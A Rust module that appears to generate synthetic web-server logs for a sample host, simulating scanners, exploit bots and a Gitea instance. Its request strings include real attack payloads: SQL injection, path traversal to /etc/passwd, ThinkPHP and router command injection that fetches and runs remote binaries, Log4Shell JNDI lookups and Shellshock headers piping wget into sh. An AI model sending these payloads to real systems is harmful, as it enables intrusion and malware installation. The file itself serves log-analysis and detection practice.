//! The sample tree's web actors: scanners, exploit bots, proxy probes, the quiet
//! returner, and the Gitea behind nginx.

use super::*;

pub(super) fn apache_rotations(w: &mut World) {
    for cut in access_cuts() {
        let t = cut + 1_213_877;
        w.apache_notice(t, "mpm_event", "AH00493: SIGUSR1 received.  Doing graceful restart");
        w.apache_notice(
            t + 40_000,
            "mpm_event",
            "AH00489: Apache/2.4.65 (Debian) configured -- resuming normal operations",
        );
        w.apache_notice(t + 40_300, "core", "AH00094: Command line: '/usr/sbin/apache2'");
    }
}

// ----------------------------------------------------------------------------------
// Web scanners and exploit bots.
// ----------------------------------------------------------------------------------

/// What Debian's Apache (static site, ScriptAlias /cgi-bin/, `.ht*` denied, no proxy,
/// no WebDAV, TraceEnable Off) answers to a probe: status, bytes sent, and the
/// error-log line (module:level, message) it writes at the default LogLevel, if any.
pub(super) fn apache_response(method: &str, path: &str) -> (u16, u64, Option<(&'static str, String)>) {
    if ["CONNECT", "TRACE", "PROPFIND"].contains(&method) {
        return (405, 529, None);
    }
    if path.starts_with("/cgi-bin/.%2e") || path.starts_with("/icons/.%2e") {
        let message = format!("AH10244: invalid URI path ({path})");
        return (400, 483, Some(("core:error", message)));
    }
    if path.starts_with("/../") {
        let message = format!("AH00126: Invalid URI in request {method} {path} HTTP/1.1");
        return (400, 483, Some(("core:error", message)));
    }
    if let Some(script) = path.strip_prefix("/cgi-bin/") {
        let script = script.split(['/', '?', ';']).next().unwrap_or("");
        let message = format!("AH02811: script not found or unable to stat: /usr/lib/cgi-bin/{script}");
        return (404, 492, Some(("cgi:error", message)));
    }
    if path.starts_with("/.ht") {
        let file = path.split('?').next().unwrap_or(path);
        let message = format!("AH01630: client denied by server configuration: /var/www/html{file}");
        return (403, 475, Some(("authz_core:error", message)));
    }
    match path {
        "/robots.txt" => (200, 412, None),
        "/icons/README" => (200, 5366, None),
        _ if path == "/" || path.starts_with("/?") => (200, 9737, None),
        _ if path.starts_with("/server-status") || path.starts_with("/server-info") => (403, 475, None),
        _ => (404, 492, None),
    }
}

/// A 404/403/400 probe plus the error-log line Apache writes for it, if any.
#[allow(clippy::too_many_arguments)]
pub(super) fn probe(w: &mut World, rng: &mut Rng, ip: &str, t: i64, method: &str, path: &str, ua: &str, referer: &str) {
    let (status, bytes, error) = apache_response(method, path);
    let request = format!("{method} {path} HTTP/1.1");
    w.access(t, Hit::new(ip, &request, status, bytes, ua).referer(referer));
    if let Some((module, message)) = error {
        let port = rng.port();
        let suffix = if referer == "-" { String::new() } else { format!(", referer: {referer}") };
        w.apache_error(t + rng.range(200, 3_000), module, Some((ip, port)), &format!("{message}{suffix}"));
    }
}

#[allow(clippy::too_many_arguments)]
pub(super) fn probe_burst(
    w: &mut World,
    rng: &mut Rng,
    ip: &str,
    t0: i64,
    paths: &[&str],
    ua: &str,
    gap: (i64, i64),
) -> i64 {
    let mut t = t0;
    for path in paths {
        let (method, path) = match path.split_once(' ') {
            Some((method, path)) if method.chars().all(|c| c.is_ascii_uppercase()) => (method, path),
            _ => ("GET", *path),
        };
        probe(w, rng, ip, t, method, path, ua, "-");
        t += rng.range(gap.0, gap.1);
    }
    t
}

pub(super) fn nikto(w: &mut World) {
    let mut rng = Rng::named("nikto");
    let paths = [
        "/",
        "/robots.txt",
        "OPTIONS /",
        "TRACE /",
        "PROPFIND /",
        "/cgi-bin/test-cgi",
        "/cgi-bin/printenv",
        "/cgi-bin/php",
        "/cgi-bin/php5",
        "/cgi-bin/awstats.pl",
        "/admin/",
        "/administrator/",
        "/phpmyadmin/",
        "/phpMyAdmin/",
        "/.git/config",
        "/.git/HEAD",
        "/.svn/entries",
        "/.htaccess",
        "/.htpasswd",
        "/server-status",
        "/server-info",
        "/backup/",
        "/backup.zip",
        "/db.sql",
        "/dump.sql",
        "/config.php",
        "/config.inc.php",
        "/wp-config.php",
        "/info.php",
        "/phpinfo.php",
        "/test.php",
        "/login.php",
        "/admin.php",
        "/install.php",
        "/setup.php",
        "/web.config",
        "/WEB-INF/web.xml",
        "/manager/html",
        "/jmx-console/",
        "/console/",
        "/examples/servlets/index.html",
        "/icons/README",
        "/manual/",
        "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
        "/_vti_bin/_vti_aut/author.dll",
        "/iisadmin/",
        "/msadc/msadcs.dll",
        "/awstats/awstats.pl?config=nikto",
        "/?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000",
        "/?=PHPE9568F36-D428-11d2-A769-00AA001ACF42",
        "/cgi-mod/webctl",
        "/..%2f..%2f..%2fetc/passwd",
        "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
        "/index.php?page=../../../../../../etc/passwd",
        "/main.php?logout=\\\"><script>alert(1)</script>",
        "/sitemap.xml",
        "/crossdomain.xml",
        "/clientaccesspolicy.xml",
        "/.DS_Store",
        "/.bash_history",
        "/id_rsa",
        "/id_dsa",
        "/.ssh/id_rsa",
    ];
    let mut t = at(3, 14, 5, 31) + micros(&mut rng);
    let mut test_id = 1;
    for round in 0..2 {
        for path in paths.iter().skip(round * 20) {
            let ua = format!("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{test_id:06})");
            test_id += rng.range(1, 40);
            t = probe_burst(w, &mut rng, NIKTO, t, &[path], &ua, (300_000, 3 * SEC));
        }
    }
}

pub(super) fn sqlmap(w: &mut World) {
    let mut rng = Rng::named("sqlmap");
    let ua = "sqlmap/1.9.11#stable (https://sqlmap.org)";
    let payloads = [
        "1",
        "1%27%20OR%201=1--",
        "1%29%20AND%201234%3D1234%20AND%20%289876%3D9876",
        "1%27%20AND%20SLEEP%285%29--%20abcd",
        "1%20UNION%20ALL%20SELECT%20NULL%2CNULL%2CNULL--%20-",
        "-1234%27%20OR%206789%3D6789%23",
        "1%22%20AND%203421%3DCAST%28%28CHR%28113%29%29%20AS%20NUMERIC%29--",
        "1%3BSELECT%20PG_SLEEP%285%29--",
        "1%27%29%20WAITFOR%20DELAY%20%270%3A0%3A5%27--",
        "1%20AND%20EXTRACTVALUE%281234%2CCONCAT%280x5c%2C0x71%29%29",
        "1%27%20ORDER%20BY%201--%20-",
        "1%27%20ORDER%20BY%2010--%20-",
        "%28SELECT%20%28CASE%20WHEN%20%281%3D1%29%20THEN%201%20ELSE%200%20END%29%29",
    ];
    let mut t = at(5, 16, 20, 44) + micros(&mut rng);
    for target in ["/?id=", "/blog/?p=", "/search?q="] {
        for payload in payloads {
            let path = format!("{target}{payload}");
            probe(w, &mut rng, SQLMAP, t, "GET", &path, ua, "-");
            t += rng.range(200_000, 2 * SEC);
        }
    }
    // Two hours later, by hand, a guess at a leaked backup and the API.
    t += 2 * HOUR;
    probe_burst(
        w,
        &mut rng,
        SQLMAP,
        t,
        &["/api/v2/.creds_backup.json", "/api/v2/users?id=1%27", "/api/v2/.creds_backup.json"],
        CURL,
        (5 * SEC, 40 * SEC),
    );
}

pub(super) fn nuclei(w: &mut World) {
    let mut rng = Rng::named("nuclei");
    let ua = "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)";
    let paths = [
        "/",
        "/.git/config",
        "/.env",
        "/.env.production",
        "/actuator/env",
        "/actuator/health",
        "/server-status",
        "/wp-config.php.bak",
        "/.DS_Store",
        "/config.json",
        "/owa/auth/logon.aspx",
        "/owa2/ecp/Current/exporttool.ashx",
        "/api/v2/.creds_backup.json",
        "/telescope/requests",
        "/_profiler/phpinfo",
        "/debug/default/view",
        "/solr/admin/cores?wt=json",
        "/jenkins/login",
        "/manager/html",
        "/geoserver/web/",
        "/cgi-bin/luci",
        "/.aws/credentials",
        "/api/swagger.json",
        "/v2/api-docs",
        "/HNAP1/",
        "/login.action",
        "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
        "/vpn/../vpns/cfg/smb.conf",
        "/+CSCOE+/logon.html",
        "/global-protect/login.esp",
        "/dana-na/auth/url_default/welcome.cgi",
        "/mgmt/tm/util/bash",
        "/api/v1/namespaces",
        "/containers/json",
        "/.vscode/sftp.json",
        "/phpinfo.php",
        "/storage/logs/laravel.log",
        "/.well-known/security.txt",
        "/owa2/ecp/Current/exporttool.ashx",
    ];
    let t = at(9, 11, 0, 3) + micros(&mut rng);
    probe_burst(w, &mut rng, NUCLEI, t, &paths, ua, (150_000, 4 * SEC));
}

pub(super) fn ipv6_web_scanner(w: &mut World) {
    let mut rng = Rng::named("ipv6 web scanner");
    let paths = [
        "/",
        "/.env",
        "/.git/config",
        "/wp-login.php",
        "/owa2/ecp/Current/exporttool.ashx",
        "/phpmyadmin/index.php",
        "/cgi-bin/luci",
        "/.aws/credentials",
        "/config.php.bak",
        "/admin/",
        "/.env.bak",
        "/backup.sql",
        "/owa2/ecp/Current/exporttool.ashx",
    ];
    let t = at(12, 9, 30, 12) + micros(&mut rng);
    let t = probe_burst(w, &mut rng, WEB_IPV6, t, &paths, OLD_CHROME, (500_000, 6 * SEC));
    // And the Gitea on nginx: dotfiles are denied by a rule, the rest is Gitea's 404.
    let mut t = t + 3 * MIN;
    for path in ["/.env", "/.git/config", "/wp-login.php", "/owa2/ecp/Current/exporttool.ashx", "/api/v1/users/search"]
    {
        t += rng.range(SEC, 5 * SEC);
        let request = get(path);
        if path.starts_with("/.") {
            w.nginx_access(t, Hit::new(WEB_IPV6, &request, 403, 153, OLD_CHROME));
            w.nginx_error(t + 300, "error", "access forbidden by rule", Some((WEB_IPV6, &request)));
        } else {
            let status = if path.starts_with("/api/") { 200 } else { 404 };
            w.nginx_access(t, Hit::new(WEB_IPV6, &request, status, 11532, OLD_CHROME));
        }
    }
}

pub(super) fn zgrab_and_masscan(w: &mut World) {
    let mut rng = Rng::named("zgrab masscan");
    for d in [3, 9, 12] {
        let t = at(d, 7, 12, 40) + micros(&mut rng);
        w.access(t, Hit::new(ZGRAB, "GET / HTTP/1.1", 200, 9737, "Mozilla/5.0 zgrab/0.x"));
        if d == 12 {
            w.nginx_access(t + 40 * SEC, Hit::new(ZGRAB, "GET / HTTP/1.1", 200, 13211, "Mozilla/5.0 zgrab/0.x"));
        }
    }
    for d in [1, 8] {
        let t = at(d, rng.range(0, 24), rng.range(0, 60), rng.range(0, 60)) + micros(&mut rng);
        w.access(
            t,
            Hit::new(
                MASSCAN,
                "GET / HTTP/1.0",
                200,
                9737,
                "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
            ),
        );
    }
}

pub(super) fn wordpress_bots(w: &mut World) {
    let mut rng = Rng::named("wordpress bots");
    let paths = [
        "/wp-login.php",
        "POST /xmlrpc.php",
        "/wp-admin/setup-config.php",
        "/wordpress/wp-admin/setup-config.php",
        "/wp-includes/wlwmanifest.xml",
        "/blog/wp-includes/wlwmanifest.xml",
        "/web/wp-includes/wlwmanifest.xml",
        "/wp-json/wp/v2/users",
        "/wp-content/plugins/wp-file-manager/readme.txt",
        "/?author=1",
        "/wp-admin/",
        "/xmlrpc.php?rsd",
        "/wp-content/themes/twentytwentyfour/style.css",
    ];
    let uas = [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
        "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    ];
    for (i, ip) in WORDPRESS_BOTS.iter().enumerate() {
        let mut days = BTreeSet::new();
        while days.len() < 1 + i % 2 {
            days.insert(rng.range(0, DAYS));
        }
        for d in days {
            let t = at(d, rng.range(0, 24), rng.range(0, 60), rng.range(0, 60)) + micros(&mut rng);
            let count = rng.range(5, paths.len() as i64) as usize;
            let t = probe_burst(w, &mut rng, ip, t, &paths[..count], uas[i % 2], (SEC, 8 * SEC));
            if *ip == "203.0.113.99" {
                probe_burst(w, &mut rng, ip, t, &["/api/v2/.creds_backup.json", "/.env"], uas[i % 2], (SEC, 8 * SEC));
            }
        }
    }
}

pub(super) fn iot_bot(w: &mut World) {
    let mut rng = Rng::named("iot bot");
    let hello = "Hello, world";
    let bursts: [(i64, &[(&str, &str)]); 2] = [
        (
            5,
            &[
                ("POST /boaform/admin/formLogin", IOT_UA),
                ("/shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/jaws;sh+/tmp/jaws", hello),
                ("POST /GponForm/diag_Form?images/", hello),
                ("/cgi-mod/webctl", IOT_UA),
                ("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://198.51.100.9:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1", hello),
            ],
        ),
        (
            10,
            &[
                ("POST /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F198.51.100.9%2Ft%7Csh%60)", IOT_UA),
                ("/wsman/relay.do", IOT_UA),
                ("/HNAP1/", IOT_UA),
                ("/cgi-mod/webctl", IOT_UA),
                ("/wsman/relay.do", IOT_UA),
            ],
        ),
    ];
    for (d, requests) in bursts {
        let mut t = random_time(&mut rng, d, 0..24);
        for (path, ua) in requests {
            t = probe_burst(w, &mut rng, IOT_BOT, t, &[path], ua, (SEC, 20 * SEC));
        }
    }
}

pub(super) fn php_exploiter(w: &mut World) {
    let mut rng = Rng::named("php exploiter");
    let chrome78 = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36";
    // Apache escapes backslashes in the request line: ThinkPHP's `\think\app` is
    // logged as `\\think\\app`.
    let requests: [(&str, &str); 9] = [
        ("/index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello", chrome78),
        ("/public/index.php?s=/index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id", chrome78),
        ("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "Custom-AsyncHttpClient"),
        ("POST /vendor/phpunit/src/Util/PHP/eval-stdin.php", "Custom-AsyncHttpClient"),
        ("/phpmyadmin/index.php", chrome78),
        ("/pma/index.php", chrome78),
        ("/?XDEBUG_SESSION_START=phpstorm", chrome78),
        ("/wsman/relay.do", chrome78),
        ("/.env", chrome78),
    ];
    let mut t = at(6, 3, 33, 8) + micros(&mut rng);
    for (path, ua) in requests {
        t = probe_burst(w, &mut rng, PHP_EXPLOITER, t, &[path], ua, (2 * SEC, 30 * SEC));
    }
}

pub(super) fn log4shell(w: &mut World) {
    let mut rng = Rng::named("log4shell");
    let jndi = format!("${{jndi:ldap://{CALLBACK_HOST}/a}}");
    for d in [2, 12] {
        let mut t = at(d, 5, rng.range(0, 60), rng.range(0, 60)) + micros(&mut rng);
        let requests = [format!("/?x={jndi}"), "/".to_string(), format!("/{jndi}"), "/wsman/relay.do".to_string()];
        for path in &requests {
            probe(w, &mut rng, LOG4SHELL, t, "GET", path, &jndi, &jndi);
            t += rng.range(SEC, 5 * SEC);
        }
    }
}

pub(super) fn shellshock(w: &mut World) {
    let mut rng = Rng::named("shellshock");
    // Apache escapes `"` inside logged headers as `\"`.
    let ua = format!("() {{ :; }}; /bin/bash -c \\\"wget http://{CALLBACK_HOST}/x.sh -O- | sh\\\"");
    let referer = "() { :; }; echo; /bin/cat /etc/passwd";
    let mut t = at(8, 2, 14, 9) + micros(&mut rng);
    for path in ["/cgi-bin/status", "/cgi-bin/test.cgi", "/cgi-bin/bash", "/cgi-bin/status/status.cgi"] {
        probe(w, &mut rng, SHELLSHOCK, t, "GET", path, &ua, referer);
        t += rng.range(SEC, 3 * SEC);
    }
}

pub(super) fn traversal(w: &mut World) {
    let mut rng = Rng::named("traversal");
    let paths = [
        "/..%2f..%2f..%2fetc/passwd",
        "/static/..%252f..%252f..%252fetc/passwd",
        "POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
        "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
        "/../../../../etc/passwd",
        "/index.php?file=....//....//....//etc/passwd",
    ];
    let t = at(10, 17, 41, 0) + micros(&mut rng);
    probe_burst(w, &mut rng, TRAVERSAL, t, &paths, CURL, (SEC, 4 * SEC));
}

pub(super) fn proxy_prober(w: &mut World) {
    let mut rng = Rng::named("proxy prober");
    for d in [2, 6, 10] {
        let mut t = random_time(&mut rng, d, 0..24);
        w.access(t, Hit::new(PROXY_PROBER, "CONNECT example.org:443 HTTP/1.1", 405, 529, "-"));
        t += rng.range(SEC, 4 * SEC);
        w.access(t, Hit::new(PROXY_PROBER, "GET http://example.org/ HTTP/1.1", 404, 492, "Go-http-client/1.1"));
        if d == 6 {
            t += rng.range(SEC, 4 * SEC);
            w.access(t, Hit::new(PROXY_PROBER, "CONNECT mail.example.com:25 HTTP/1.1", 405, 529, "-"));
        }
    }
}

/// TLS ClientHello sent to port 80: Apache escapes the binary request line.
pub(super) fn tls_on_plain_http(w: &mut World) {
    let mut rng = Rng::named("tls on port 80");
    for (d, nginx) in [(3, false), (11, false), (12, true)] {
        let t = random_time(&mut rng, d, 0..24);
        let mut request = String::new();
        if nginx {
            // nginx escapes with upper-case hex.
            request.push_str("\\x16\\x03\\x01\\x00\\xF7\\x01\\x00\\x00\\xF3\\x03\\x03");
            for _ in 0..20 {
                request.push_str(&format!("\\x{:02X}", rng.below(256)));
            }
            w.nginx_access(t, Hit::new(TLS_ON_PORT_80, &request, 400, 157, "-"));
        } else {
            request.push_str("\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03");
            for _ in 0..20 {
                request.push_str(&format!("\\x{:02x}", rng.below(256)));
            }
            w.access(t, Hit::new(TLS_ON_PORT_80, &request, 400, 483, "-"));
        }
    }
}

/// The quiet returner: 1-3 probes on 11 of the 14 days, never a burst.
pub const SNEAK_DAYS: [i64; 11] = [0, 1, 2, 4, 5, 7, 8, 9, 11, 12, 13];

pub(super) fn sneak_returner(w: &mut World) {
    let mut rng = Rng::named("sneak");
    let paths = [
        "/wp-login.php",
        "/.env",
        "/admin/",
        "/.git/HEAD",
        "/phpinfo.php",
        "/backup.tar.gz",
        "/config.php.bak",
        "/.aws/credentials",
        "/server-status",
        "/wp-login.php",
        "/.env",
    ];
    for (n, d) in SNEAK_DAYS.into_iter().enumerate() {
        let mut t = at(d, rng.range(0, 24), rng.range(0, 60), rng.range(0, 60)) + micros(&mut rng);
        let ua = BROWSERS[(n * 3) % BROWSERS.len()];
        // Day 11: one of its requests goes to nginx instead.
        let count = if d == 11 { 1 } else { 1 + rng.below(3) as usize };
        for k in 0..count {
            let path = paths[(n + k * 4) % paths.len()];
            probe(w, &mut rng, SNEAK, t, "GET", path, ua, "-");
            t += rng.range(30 * SEC, 40 * MIN);
        }
        if d == 11 {
            w.nginx_access(t, Hit::new(SNEAK, "GET /.env HTTP/1.1", 403, 153, ua));
            w.nginx_error(t + 200, "error", "access forbidden by rule", Some((SNEAK, "GET /.env HTTP/1.1")));
        }
    }
}

// ----------------------------------------------------------------------------------
// nginx in front of Gitea: installed on day 10, so its logs are short.
// ----------------------------------------------------------------------------------
pub(super) fn nginx_started() -> i64 {
    at(10, 6, 12, 7) + 402_118
}

pub(super) fn gitea(w: &mut World) {
    let mut rng = Rng::named("gitea");
    let t = nginx_started();
    w.nginx_error(t, "notice", "signal process started", None);
    // Gitea was not running yet when alice first tried.
    let t = t + 3 * MIN + micros(&mut rng);
    w.nginx_access(t, Hit::new(OWNER_DESKTOP, "GET / HTTP/1.1", 502, 559, OWNER_DESKTOP_UA));
    w.nginx_error(
        t + 1_000,
        "error",
        "connect() failed (111: Connection refused) while connecting to upstream",
        // nginx puts `upstream: "..."` between request and host: carried inside
        // the request slot so `nginx_error` keeps one layout.
        Some((OWNER_DESKTOP, "GET / HTTP/1.1\", upstream: \"http://127.0.0.1:3000/")),
    );
    let pages: [(&str, u64); 7] = [
        ("/", 13211),
        ("/alice/dotfiles", 24410),
        ("/alice/dotfiles/src/branch/main/.bashrc", 19874),
        ("/alice/knockknock", 27731),
        ("/alice/knockknock/commits/branch/main", 31102),
        ("/explore/repos", 18862),
        ("/assets/css/index.css?v=1.24.6", 412_330),
    ];
    for d in 10..DAYS {
        // alice, twice a day, plus a git fetch.
        for hour in [9, 20] {
            let mut t = at(d, hour, rng.range(0, 60), rng.range(0, 60)) + micros(&mut rng);
            for _ in 0..rng.range(2, 5) {
                let (path, bytes) = *rng.pick(&pages);
                let request = get(path);
                w.nginx_access(
                    t,
                    Hit::new(OWNER_DESKTOP, &request, 200, bytes, OWNER_DESKTOP_UA).referer("https://git.example.net/"),
                );
                t += rng.range(5 * SEC, 2 * MIN);
            }
            w.nginx_access(
                t,
                Hit::new(
                    OWNER_DESKTOP,
                    "GET /alice/dotfiles.git/info/refs?service=git-upload-pack HTTP/1.1",
                    200,
                    1841,
                    "git/2.47.3",
                ),
            );
            w.nginx_access(
                t + 300_000,
                Hit::new(OWNER_DESKTOP, "POST /alice/dotfiles.git/git-upload-pack HTTP/1.1", 200, 642, "git/2.47.3"),
            );
        }
        // A visitor or two and Googlebot.
        let visitor = format!("192.0.2.{}", 180 + d);
        let mut t = random_time(&mut rng, d, 8..23);
        for _ in 0..rng.range(2, 5) {
            let (path, bytes) = *rng.pick(&pages);
            let request = get(path);
            w.nginx_access(
                t,
                Hit::new(&visitor, &request, 200, bytes, BROWSERS[0]).referer("https://alice.example.net/projects/"),
            );
            t += rng.range(10 * SEC, MIN);
        }
        let t = random_time(&mut rng, d, if d == 10 { 7..9 } else { 3..6 });
        let googlebot = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
        w.nginx_access(t, Hit::new(GOOGLEBOTS[1], "GET /robots.txt HTTP/1.1", 200, 1502, googlebot));
        w.nginx_access(t + 20 * SEC, Hit::new(GOOGLEBOTS[1], "GET /alice/knockknock HTTP/1.1", 200, 27731, googlebot));
    }
}
